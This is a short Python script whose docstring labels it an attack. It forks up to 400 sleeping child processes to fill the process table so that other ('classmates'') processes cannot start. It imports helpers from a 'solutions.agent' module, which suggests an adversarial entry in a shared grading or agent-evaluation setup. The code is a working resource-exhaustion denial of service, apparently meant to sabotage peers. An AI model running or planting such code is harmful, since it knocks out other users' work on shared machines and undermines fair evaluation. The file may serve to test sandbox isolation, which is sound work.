"""Attack: fill the process table with sleepers, so classmates' children cannot start."""

import os
import time

from solutions.agent import extract_code, holdout_check, solve, write_solution, write_tests  # noqa: F401

for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
    except OSError:
        break
